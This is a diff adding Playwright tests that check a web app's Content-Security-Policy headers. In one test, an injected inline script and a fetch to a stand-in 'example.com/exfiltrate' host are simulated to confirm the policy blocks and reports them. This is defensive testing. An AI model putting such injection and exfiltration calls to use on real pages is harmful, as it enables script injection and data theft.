@@ -1,0 +1,51 @@
+// The built app is served with the security headers its build wrote (dist/_headers), and the policy
+// really binds the page: what it does not allow is blocked and reported (the fixture fails any other
+// journey on such a report).
+import { expect, test } from '../src/fixtures';
+
+test('the app is served with its Content-Security-Policy and hardening headers', async ({
+  page,
+}) => {
+  const response = await page.goto('/swap');
+  const headers = response?.headers() ?? {};
+  const policy = headers['content-security-policy'] ?? '';
+  expect(policy).toContain("script-src 'self'");
+  expect(policy).toContain("frame-ancestors 'none'");
+  // A devnet build reaches its read node over http and, for newHeads, over ws on the same port.
+  const connect = policy.match(/connect-src ([^;]*)/)?.[1]?.split(' ') ?? [];
+  const httpLoopback = connect.filter((source) => source.startsWith('http://127.0.0.1:'));
+  expect(httpLoopback.length).toBeGreaterThan(0);
+  const withWebSocket = httpLoopback.filter((source) =>
+    connect.includes(source.replace('http:', 'ws:')),
+  );
+  expect(withWebSocket).not.toEqual([]);
+  expect(connect).not.toContain('http://127.0.0.1:*');
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  expect(headers['referrer-policy']).toBe('no-referrer');
+  await expect(page.getByRole('button', { name: 'Connect to a wallet' })).toBeVisible();
+});
+
+test('the policy blocks injected scripts and calls to hosts it does not name, and says so', async ({
+  page,
+  cspViolations,
+}) => {
+  await page.goto('/swap');
+  const outcome = await page.evaluate(async () => {
+    // What an injection would try: an inline script, and sending data to a host of its choice.
+    const script = document.createElement('script');
+    script.textContent = 'window.injectedScriptRan = true;';
+    document.head.append(script);
+    const ran = (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan === true;
+    const fetched = await fetch('https://example.com/exfiltrate').then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    return { ran, fetched };
+  });
+  expect(outcome).toEqual({ ran: false, fetched: 'blocked' });
+  await expect
+    .poll(() => cspViolations.map((violation) => violation.directive).sort())
+    .toEqual(['connect-src', 'script-src-elem']);
+  // Provoked on purpose: the fixture must not fail this test for them.
+  cspViolations.length = 0;
+});
